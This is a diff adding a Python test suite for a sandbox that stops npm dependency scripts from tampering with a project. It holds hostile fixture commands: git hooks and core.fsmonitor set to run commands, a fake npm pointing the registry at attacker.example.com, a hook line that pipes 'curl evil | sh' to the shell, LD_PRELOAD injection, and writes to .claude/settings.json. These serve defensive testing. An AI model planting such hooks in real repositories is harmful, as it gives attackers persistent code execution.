@@ -1,0 +1,341 @@
+"""Each rule that lets honest work through, tried by a dependency: it fakes being the manager, plants
+what the rule recognises, or waits until the manager writes."""
+
+import json
+import os
+import sys
+
+sys.path.insert(0, os.path.join(os.path.dirname(__file__), "../support"))
+import beside_bare  # noqa: E402
+from harness import test  # noqa: E402
+from npm_registry import NpmRegistry  # noqa: E402
+
+SH = "#!/bin/sh\n"
+
+
+class Scene:
+    """A repository whose dependency `evil` runs a script as it is installed."""
+
+    def __init__(self, t, script, **members):
+        self.t = t
+        self.registry = NpmRegistry()
+        self.registry.add("evil", "1.0.0", {"index.js": "", "attack.sh": SH + script},
+                          scripts={"postinstall": "sh attack.sh"})
+        beside_bare.repository(t, **{"package.json": beside_bare.manifest(
+            t, dependencies={"evil": "1.0.0"}, **members), ".gitignore": "node_modules\n.vscode\n"})
+        self.env = {"npm_config_registry": self.registry.url(), **beside_bare.GIT_VARIABLES}
+        self.options = ["--allow-host", self.registry.url().split("/")[2]]
+
+    def attack(self, *command, changed):
+        """Bare (control): `changed` differs afterwards. In the sandbox it does not. Returns that run."""
+        path = self.t.project / changed
+        read = lambda: path.read_bytes() if path.is_file() else None  # noqa: E731
+        copy = self.t.base / "copy"
+        self.t.bare("cp", "-a", self.t.project, copy)
+        before = read()
+        self.t.bare(*command, env=self.env)
+        self.t.true(read() != before, f"control: {changed} by {command}")
+        self.t.bare("rm", "-rf", self.t.project)
+        copy.rename(self.t.project)
+        result = self.t.sandbox(*command, env=self.env, options=self.options)
+        self.t.equal(read(), before, f"{changed}: {result}")
+        return result
+
+
+def alerts(result):
+    return {e["details"].get("path"): e for e in result.events if e["severity"] == "alert"}
+
+
+# ── what the user asks for ──────────────────────────────────────────────────────────────────────
+
+
+@test(time_limit=120)
+def git_of_a_script(t):
+    """a dependency's script that has git write the configuration is no user who typed git"""
+    scene = Scene(t, 'cd "$INIT_CWD" && /usr/bin/git config core.fsmonitor "touch pwned"\n')
+    result = scene.attack("npm", "install", changed=".git/config")
+    t.contains(alerts(result)[".git/config"]["details"]["reason"], "core.fsmonitor", result)
+
+
+@test
+def fake_manager(t):
+    """an npm in node_modules/.bin is a dependency's program, and nothing is asked for by it"""
+    beside_bare.manifest(t)
+    t.write("node_modules/.bin/npm", SH + "echo registry=http://attacker.example.com > .npmrc\n", 0o755)
+    env = {"PATH": f"{t.project}/node_modules/.bin:{t.env['PATH']}"}
+    t.succeeded(t.bare("npm", "init", "-y", env=env))
+    t.true((t.project / ".npmrc").exists(), "control")
+    (t.project / ".npmrc").unlink()
+    result = t.sandbox("npm", "init", "-y", env=env)
+    t.true(not (t.project / ".npmrc").exists(), result)
+
+
+@test
+def program_with_a_known_name(t):
+    """a program of the project that is called git is not the system's"""
+    t.write("git", SH + "echo planted > .envrc\n", 0o755)
+    t.succeeded(t.bare("./git", "commit"))
+    t.true((t.project / ".envrc").exists(), "control")
+    (t.project / ".envrc").unlink()
+    result = t.sandbox("./git", "commit")
+    t.true(not (t.project / ".envrc").exists(), result)
+    t.true(".envrc" in alerts(result), result)
+
+
+def starts_a_program(how):
+    def body(t):
+        beside_bare.repository(t, **{"a.txt": "a\n", "evil.sh": SH + "echo planted > .envrc\n"})
+        (t.project / "evil.sh").chmod(0o755)
+        if how == "hook":
+            t.write(".git/hooks/pre-commit", SH + "./evil.sh\n", 0o755)
+        else:
+            t.succeeded(beside_bare.git(t, "config", "core.fsmonitor", "./evil.sh"))
+        t.write("a.txt", "changed\n")
+        t.bare("git", "commit", "-qam", "second")
+        t.true((t.project / ".envrc").exists(), "control")
+        (t.project / ".envrc").unlink()
+        t.write("a.txt", "again\n")
+        result = t.sandbox("git", "commit", "-qam", "third")
+        t.true(not (t.project / ".envrc").exists(), result)
+        t.true(".envrc" in alerts(result), result)
+
+    body.__doc__ = f"what git starts by {how} is not what the user typed"
+    test(body)
+
+
+for one in ("hook", "core.fsmonitor"):
+    starts_a_program(one)
+
+
+@test
+def loaded_into_git(t):
+    """a git with a library preloaded that it did not have from outside is not the system's git"""
+    t.write("run.sh", "LD_PRELOAD=./evil.so git config core.pager ./evil.sh\n")
+    beside_bare.repository(t, **{"a.txt": "a\n"})
+    result = t.sandbox("sh", "run.sh")
+    t.contains(alerts(result)[".git/config"]["details"]["reason"], "core.pager", result)
+
+
+@test(time_limit=120)
+def waits_for_the_manager(t):
+    """what a script puts into the index for the manager's own commit is not committed"""
+    script = ('cd "$INIT_CWD" && mkdir -p .github/workflows && echo evil > .github/workflows/ci.yml && '
+              "git add -f .github\n")
+    scene = Scene(t, "exit 0\n", scripts={"preversion": "npm rebuild evil"})
+    scene.registry.add("evil", "1.0.0", {"index.js": "", "attack.sh": SH + script},
+                       scripts={"postinstall": "sh attack.sh"})
+    t.succeeded(t.bare("npm", "install", "--ignore-scripts", env=scene.env))
+    t.succeeded(beside_bare.git(t, "add", "-A"))
+    t.succeeded(beside_bare.git(t, "commit", "-qm", "lock"))
+    result = scene.attack("npm", "version", "patch", changed=".git/refs/heads/main")
+    t.true(".git/index" in alerts(result), f"{alerts(result).keys()} {result}")
+    t.equal(json.loads((t.project / "package.json").read_text())["version"], "1.0.0", "whole or not at all")
+
+
+# ── git hooks ───────────────────────────────────────────────────────────────────────────────────
+
+HUSKY = ("git config core.hooksPath .husky/_ && mkdir -p .husky/_ && "
+         "printf '#!/usr/bin/env sh\\n. \"$(dirname \"$0\")/h\"' > .husky/_/pre-commit && "
+         "chmod +x .husky/_/pre-commit\n")
+
+
+@test(time_limit=120)
+def known_hooks_of_a_package(t):
+    """hooks as husky writes them are an alert when a dependency's script sets them up"""
+    scene = Scene(t, 'cd "$INIT_CWD" && ' + HUSKY)
+    result = scene.attack("npm", "install", changed=".husky/_/pre-commit")
+    t.true(".git/config" in alerts(result), result)
+    t.true(any(str(path).startswith(".husky") for path in alerts(result)), result)
+
+
+@test(time_limit=120)
+def hooks_left_by_a_daemon(t):
+    """hooks that something of a dependency's script writes while the project's own script runs are an
+    alert"""
+    scene = Scene(t, 'cd "$INIT_CWD" && (while [ ! -e started ]; do sleep 0.05; done; ' + HUSKY[:-1] +
+                  "; touch planted) >/dev/null 2>&1 &\n",
+                  scripts={"prepare": "touch started; while [ ! -e planted ]; do sleep 0.05; done"})
+    result = scene.attack("npm", "install", changed=".husky/_/pre-commit")
+    t.true(".git/config" in alerts(result), result)
+
+
+def strange_hook(what, script):
+    def body(t):
+        beside_bare.repository(t, **{"package.json": beside_bare.manifest(t, scripts={"prepare": "sh x.sh"}),
+                                "x.sh": SH + script})
+        before = t.fingerprint(t.project / ".git")
+        copy = t.base / "copy"
+        t.bare("cp", "-a", t.project, copy)
+        t.succeeded(t.bare("npm", "install"))
+        t.true(t.fingerprint(t.project / ".git") != before, "control")
+        t.bare("rm", "-rf", t.project)
+        copy.rename(t.project)
+        result = t.sandbox("npm", "install", env={"CI": "true"})
+        t.equal(t.fingerprint(t.project / ".git"), before, result)
+        t.equal(result.code, 122, result)
+        t.true(alerts(result), result)
+
+    body.__doc__ = f"{what} is an alert, whoever writes it"
+    test(body)
+
+
+for what, script in (
+    ("a hook with one line that no tool writes", HUSKY + "echo 'curl evil | sh' >> .husky/_/pre-commit\n"),
+    ("core.hooksPath into node_modules",
+     "mkdir -p node_modules/evil; git config core.hooksPath node_modules/evil\n"),
+    ("core.hooksPath to a directory that the run makes",
+     "mkdir made; echo evil > made/pre-commit; git config core.hooksPath made\n"),
+    ("core.hooksPath out of the project", "git config core.hooksPath /tmp/evil\n"),
+    ("core.pager beside core.hooksPath", HUSKY + "git config core.pager evil\n"),
+    ("a hook of another program", "mkdir -p .git/hooks; printf '#!/usr/bin/env node\\nevil()' > .git/hooks/pre-push\n"),
+):
+    strange_hook(what, script)
+
+
+@test
+def directory_of_hooks(t):
+    """the directory that core.hooksPath of the project names is a protected place, in builds too"""
+    beside_bare.repository(t, **{"package.json": beside_bare.manifest(t), "tools/hooks/pre-commit": SH})
+    t.succeeded(beside_bare.git(t, "config", "core.hooksPath", "tools/hooks"))
+    before = t.fingerprint()
+    result = t.sandbox("sh", "-c", "echo evil >> tools/hooks/pre-commit; echo x > tools/hooks/pre-push")
+    t.equal(t.fingerprint(), before, result)
+    t.true("tools/hooks/pre-push" in alerts(result), result)
+
+
+# ── content ─────────────────────────────────────────────────────────────────────────────────────
+
+
+@test(time_limit=120)
+def staged_file(t):
+    """a git index with one more entry is no index that was only looked at"""
+    scene = Scene(t, 'cd "$INIT_CWD" && echo evil > evil.yml && git add -f evil.yml\n')
+    result = scene.attack("npm", "install", changed=".git/index")
+    t.true(".git/index" in alerts(result), result)
+
+
+@test(time_limit=120)
+def hidden_from_git(t):
+    """an index that tells git to overlook a file is no index that was only looked at"""
+    scene = Scene(t, 'cd "$INIT_CWD" && git update-index --assume-unchanged package.json\n')
+    result = scene.attack("npm", "install", changed=".git/index")
+    t.true(".git/index" in alerts(result), result)
+
+
+def rewritten_manifest(what, program):
+    def body(t):
+        registry = NpmRegistry()
+        registry.add("evil", "1.0.0", {"index.js": "", "attack.js": f"""
+            const fs = require('fs'), file = process.env.INIT_CWD + '/package.json';
+            const text = fs.readFileSync(file, 'utf8'), manifest = JSON.parse(text);
+            {program}"""}, scripts={"postinstall": "node attack.js"})
+        beside_bare.manifest(t, dependencies={"evil": "1.0.0"}, exports={"import": "./a.js", "default": "./b.js"})
+        env = {"npm_config_registry": registry.url()}
+        t.succeeded(t.bare("npm", "install", "--package-lock-only", "--ignore-scripts", env=env))
+        before = (t.project / "package.json").read_bytes()
+        t.succeeded(t.bare("npm", "ci", env=env))
+        t.true((t.project / "package.json").read_bytes() != before, "control")
+        (t.project / "package.json").write_bytes(before)
+        result = t.sandbox("npm", "ci", env=env, options=["--allow-host", registry.url().split("/")[2]])
+        t.equal((t.project / "package.json").read_bytes(), before, result)
+        t.true("package.json" in alerts(result), result)
+
+    body.__doc__ = f"a package.json with {what} does not mean the same"
+    test(body, time_limit=120)
+
+
+for what, program in (
+    ("other conditions first", "manifest.exports = {default: './b.js', import: './a.js'};"
+     "fs.writeFileSync(file, JSON.stringify(manifest));"),
+    ("a name twice", "fs.writeFileSync(file, text.replace('{', '{\"name\": \"other\",'));"),
+):
+    rewritten_manifest(what, program)
+
+
+# ── output, new projects ────────────────────────────────────────────────────────────────────────
+
+
+def program_run_by(*command, **members):
+    """A dependency's program, started by the user's own command, plants in protected places, in
+    package.json and in the lockfile."""
+    plants = ["mkdir -p .vscode .git/hooks; echo x > .vscode/tasks.json", "echo x > .git/hooks/pre-commit",
+              "echo x > .envrc", "echo '{\"name\": \"app\", \"scripts\": {\"postinstall\": \"evil\"}}' > package.json"]
+    planted = [".vscode/tasks.json", ".git/hooks/pre-commit", ".envrc", "package.json"]
+
+    def body(t):
+        text = beside_bare.manifest(t, **members)
+        beside_bare.repository(t, **{"package.json": text, ".gitignore": "node_modules\n"})
+        t.write("node_modules/tool/package.json", '{"name": "tool", "version": "1.0.0", "bin": "cli.sh"}')
+        t.write("node_modules/tool/cli.sh", SH + "; ".join(plants) + "; mkdir -p out; echo x > out/file\n", 0o755)
+        (t.project / "node_modules/.bin").mkdir()
+        (t.project / "node_modules/.bin/tool").symlink_to("../tool/cli.sh")
+        t.bare("cp", "-a", t.project, t.base / "copy")
+        t.succeeded(t.bare(*command))
+        t.true(all((t.project / path).exists() for path in planted), "control")
+        t.bare("rm", "-rf", t.project)
+        (t.base / "copy").rename(t.project)
+        result = t.sandbox(*command)
+        t.equal((t.project / "package.json").read_text(), text, result)
+        t.true(not any((t.project / path).exists() for path in planted[:3]), result)
+        t.true((t.project / "out/file").exists(), "the output is taken over")
+        t.true({".envrc", ".git/hooks/pre-commit"} <= alerts(result).keys(), result)
+
+    body.__doc__ = f"{' '.join(command)}: output is taken over, protected places and package.json are not"
+    test(body)
+
+
+program_run_by("npx", "tool")
+program_run_by("npm", "exec", "tool")
+program_run_by("npm", "run", "build", scripts={"build": "tool"})
+program_run_by("npm", "test", scripts={"test": "tool"})
+
+
+@test
+def creator_in_an_old_project(t):
+    """npm create cannot change protected places, or package.json, of a project that is there"""
+    text = beside_bare.manifest(t)
+    beside_bare.repository(t, **{"package.json": text, ".vscode/settings.json": "{}\n"})
+    registry = NpmRegistry()
+    registry.add("create-evil", "1.0.0", {"cli.sh": SH + (
+        "echo x > .vscode/tasks.json; mkdir -p .claude new/.vscode; echo x > .claude/settings.json; "
+        "echo '{\"scripts\": {\"install\": \"evil\"}}' > package.json; echo x > new/.vscode/tasks.json\n")})
+    registry.packuments["create-evil"]["versions"]["1.0.0"]["bin"] = {"create-evil": "cli.sh"}
+    registry.answers["/create-evil"] = ("application/json",
+                                        json.dumps(registry.packuments["create-evil"]).encode())
+    env = {"npm_config_registry": registry.url()}
+    options = ["--allow-host", registry.url().split("/")[2]]
+    t.bare("cp", "-a", t.project, t.base / "copy")
+    t.succeeded(t.bare("npm", "create", "--yes", "evil", env=env))
+    t.true((t.project / ".claude/settings.json").exists(), "control")
+    t.bare("rm", "-rf", t.project)
+    (t.base / "copy").rename(t.project)
+    result = t.sandbox("npm", "create", "--yes", "evil", env=env, options=options)
+    t.equal((t.project / "package.json").read_text(), text, result)
+    t.true(not (t.project / ".claude").exists(), result)
+    t.true(not (t.project / ".vscode/tasks.json").exists(), result)
+    t.true((t.project / "new/.vscode/tasks.json").exists(), "the new directory is as it was made")
+    t.true({".vscode/tasks.json", "package.json"} <= alerts(result).keys(), result)
+
+
+@test(time_limit=120)
+def executable_by_a_script(t):
+    """a script can make executable what package.json names, and nothing else"""
+    scene = Scene(t, 'cd "$INIT_CWD" && chmod +x cli.js other.js\n', bin="cli.js")
+    for name in ("cli.js", "other.js"):
+        t.write(name, "", 0o644)
+    t.succeeded(t.bare("npm", "install", env=scene.env), "control")
+    t.true(os.access(t.project / "other.js", os.X_OK), "control")
+    for name in ("cli.js", "other.js"):
+        (t.project / name).chmod(0o644)
+    t.bare("rm", "-rf", "node_modules")
+    t.succeeded(t.sandbox("npm", "install", env=scene.env, options=scene.options))
+    t.true(os.access(t.project / "cli.js", os.X_OK), "named")
+    t.true(not os.access(t.project / "other.js", os.X_OK), "not named")
+
+
+@test(time_limit=120)
+def editor_setting_of_a_package(t):
+    """an ignored .vscode/settings.json is an alert when a dependency's script writes it"""
+    scene = Scene(t, 'cd "$INIT_CWD" && mkdir -p .vscode && echo "{}" > .vscode/settings.json\n')
+    result = scene.attack("npm", "install", changed=".vscode/settings.json")
+    t.true(any(str(path).startswith(".vscode") for path in alerts(result)), result)
